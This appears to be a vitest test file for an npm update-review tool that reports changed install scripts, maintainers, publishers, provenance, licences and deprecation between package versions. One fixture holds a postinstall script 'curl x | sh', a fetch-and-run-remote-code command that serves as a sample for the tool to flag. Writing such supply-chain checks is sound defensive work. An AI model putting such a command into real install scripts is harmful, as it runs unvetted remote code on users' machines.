import { describe, expect, it } from "vitest";
import type { InstallScript } from "../../src/config/lock-npm-schema.ts";
import type { LockFacts } from "../../src/update/lock-facts.ts";
import { nothingKnown, type VersionDetail } from "../../src/update/published.ts";
import { reportOf } from "../../src/update/report.ts";
import { reportLines } from "../../src/update/report-text.ts";

const facts = (more: Partial<LockFacts> = {}): LockFacts => ({
  dependencies: 3,
  installScripts: [],
  allowScripts: [],
  license: "MIT",
  engine: "Node >=20",
  deprecated: null,
  changelog: null,
  ...more,
});

const report = (
  before: { facts?: Partial<LockFacts>; detail?: Partial<VersionDetail> },
  after: { facts?: Partial<LockFacts>; detail?: Partial<VersionDetail> },
) =>
  reportOf(
    { facts: facts(before.facts), detail: { ...nothingKnown, ...before.detail } },
    { facts: facts(after.facts), detail: { ...nothingKnown, ...after.detail } },
  );

const script = (name: string, version: string, scripts: Record<string, string>): InstallScript => ({
  name,
  version,
  optional: false,
  scripts,
});

const texts = (one: ReturnType<typeof report>, warning: boolean) =>
  reportLines(one).flatMap((line) => (line.warning === warning ? [line.text] : []));

describe("what is told of an update", () => {
  it("nothing that is the same, or not known", () => {
    expect(reportLines(report({}, {}))).toEqual([{ text: "dependencies: 3", warning: false }]);
    const maintainers = ["alice"];
    const same = report(
      { detail: { maintainers, provenance: true, publisher: "alice" } },
      { detail: { maintainers, provenance: true, publisher: "alice" } },
    );
    expect(texts(same, true)).toEqual([]);
    const unknown = report(
      { detail: { maintainers, provenance: true, publisher: "a" } },
      { detail: { maintainers: null, provenance: null, publisher: null } },
    );
    expect([unknown.maintainers, unknown.provenance, unknown.publisher]).toEqual([null, null, null]);
  });

  it("install scripts that are new or have other commands, not those whose package is merely newer", () => {
    const gyp = { install: "node-gyp rebuild" };
    const changed = report(
      {
        facts: {
          installScripts: [
            script("native", "1.0.0", gyp),
            script("changing", "1.0.0", { postinstall: "node a.js" }),
            script("going", "1.0.0", gyp),
          ],
        },
      },
      {
        facts: {
          allowScripts: ["changing"],
          installScripts: [
            script("native", "1.4.0", gyp),
            script("changing", "1.0.1", { postinstall: "curl x | sh", preinstall: "true" }),
            script("fresh", "0.1.0", gyp),
            script("unknown", "0.1.0", {}),
          ],
        },
      },
    );
    expect(texts(changed, true)).toEqual([
      "other install script of changing@1.0.1 (allowScripts lets it run): postinstall: curl x | sh; preinstall: true; before: postinstall: node a.js",
      "new install script of fresh@0.1.0 (not run): install: node-gyp rebuild",
      "new install script of unknown@0.1.0 (not run)",
    ]);
  });

  it("people, provenance, licence, deprecation; and what is no reason to worry", () => {
    const changed = report(
      {
        detail: { maintainers: ["alice", "bob"], publisher: "alice", provenance: true, download: 1_200_000 },
      },
      {
        facts: {
          dependencies: 12,
          license: null,
          engine: null,
          deprecated: "use another",
          changelog: "https://example.org/changes",
        },
        detail: {
          maintainers: ["alice", "carol"],
          publisher: "carol",
          provenance: false,
          download: 3_400_000,
          unpacked: 900,
          published: "2026-05-01T10:00:00.000Z",
        },
      },
    );
    expect(texts(changed, true)).toEqual([
      "maintainers: +carol, -bob",
      "published by carol, the one before by alice",
      expect.stringMatching(/^provenance lost/),
      "licence: MIT → none stated",
      "deprecated: use another",
    ]);
    expect(texts(changed, false)).toEqual([
      "published 2026-05-01",
      "size: 1.2 MB → 3.4 MB to download, 900 B unpacked",
      "dependencies: 3 → 12",
      "runs on: Node >=20 → any",
      "changes: https://example.org/changes",
    ]);
    const gained = report({ detail: { provenance: false } }, { detail: { provenance: true } });
    expect(texts(gained, true)).toEqual([]);
    expect(texts(gained, false)[1]).toMatch(/^provenance gained/);
  });
});
